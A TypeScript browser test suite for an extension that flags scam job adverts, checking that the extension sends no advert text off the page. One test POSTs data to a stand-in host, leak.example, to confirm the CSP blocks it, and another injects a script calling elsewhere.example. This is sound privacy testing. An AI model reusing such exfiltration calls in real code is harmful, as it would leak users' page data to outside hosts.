import puppeteer from 'puppeteer-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { HONEST, LURE, OTHER_LURE } from './adverts.ts';
import { CHROMIUM_BACKGROUND, chromiumOptions } from './harness/chromium.ts';
import { distFor } from './harness/dist.ts';
import { eventually } from './harness/patience.ts';
import { Popup } from './harness/popup.ts';
import { startWeb } from './harness/proxy.ts';
import { launch, type Session } from './harness/session.ts';
import { BROWSERS } from './harness/use-session.ts';
import { indeedApp, plainPage, seekDetail, seekList } from './pages.ts';

/** Beginnings of the adverts' lines, as they would stand in an address or a body. */
const WORDS = [LURE, OTHER_LURE, HONEST].flatMap(({ lines }) => lines.map((line) => line.slice(0, 24)));
const decoded = (text: string) => decodeURIComponent(text.replace(/\+/g, ' ').replace(/%(?![0-9a-f]{2})/gi, '%25'));

describe.each(BROWSERS)('%s: the traffic of a whole session', (name) => {
  let session: Session;
  beforeAll(async () => {
    session = await launch(name, { extension: distFor(name) });
  });
  afterAll(() => session.close());

  it('is that of the pages alone', async () => {
    const list = await session.open('https://my.jobstreet.com/jobs?q=work', seekList([HONEST, LURE]));
    await eventually(async () => expect(await session.badge(list)).toBe('1'));

    const detail = await session.open(`https://www.seek.com.au/job/${LURE.id}`, seekDetail(LURE));
    const popup = new Popup(await session.popupFor(detail));
    await popup.warning();
    await popup.press('Show the words in the page');
    await popup.press('Hide the words in the page');
    await popup.page.close();

    const app = await session.open('https://www.indeed.com/jobs?q=work', indeedApp([OTHER_LURE, HONEST]));
    await app.evaluate(() => document.querySelector<HTMLElement>('a[data-jk]')?.click());
    const open = await session.clickToolbarButton(app);
    await eventually(async () => expect(await open.text()).toContain(OTHER_LURE.title));
    await open.close();

    const plain = await session.open('https://village.example/notices/7', plainPage(LURE));
    const asked = await session.clickToolbarButton(plain);
    await eventually(async () => expect(await asked.text()).toContain('Read this page'));
    await asked.press('Read this page');
    await eventually(async () => expect(await session.badge(plain)).toBe('1'));
    await asked.close();
    // What a worker or a timer might still send.
    await new Promise((resolve) => setTimeout(resolve, 5_000));

    expect(session.unexplained()).toEqual([]);
    const pages = session.web.traffic.entries.filter(
      ({ kind, host }) => kind === 'request' && host.endsWith('seek.com.au'),
    );
    expect(pages.length).toBeGreaterThan(0);
    for (const { url, body } of session.web.traffic.entries) {
      const sent = decoded(url + body);
      expect(WORDS.filter((words) => sent.includes(words))).toEqual([]);
    }
  });

  it('would show a request of the extension’s own pages, which the CSP stops before that', async () => {
    const page = await session.extensionPage('src/popup/index.html');
    const outcome = await page.evaluate(() =>
      fetch('https://leak.example/advert', { method: 'POST', body: 'words' }).then(
        () => 'sent',
        () => 'stopped',
      ),
    );
    expect(outcome).toBe('stopped');
    expect(session.web.traffic.entries.filter(({ host }) => host === 'leak.example')).toEqual([]);
  });

  it('is watched: a request to anywhere else is recorded and has no explanation', async () => {
    const html =
      '<!doctype html><title>x</title><script>fetch("https://elsewhere.example/?q=1").catch(() => {})</script>';
    await session.open('https://village.example/leaks', html);
    await eventually(() => expect(session.unexplained().map(({ host }) => host)).toContain('elsewhere.example'));
  });
});

describe.runIf(BROWSERS.includes('chromium'))('chromium: the traffic that is let pass', () => {
  it('is asked for by a Chromium without any extension', async () => {
    const web = await startWeb();
    const { enableExtensions: _, ...options } = chromiumOptions(web.port);
    const browser = await puppeteer.launch(options);
    try {
      await eventually(() => {
        const hosts = new Set(web.traffic.entries.map(({ host }) => host));
        expect(CHROMIUM_BACKGROUND.filter(({ host }) => !hosts.has(host))).toEqual([]);
      });
      expect(web.traffic.unexplained(CHROMIUM_BACKGROUND)).toEqual([]);
    } finally {
      await browser.close();
      await web.close();
    }
  });
});
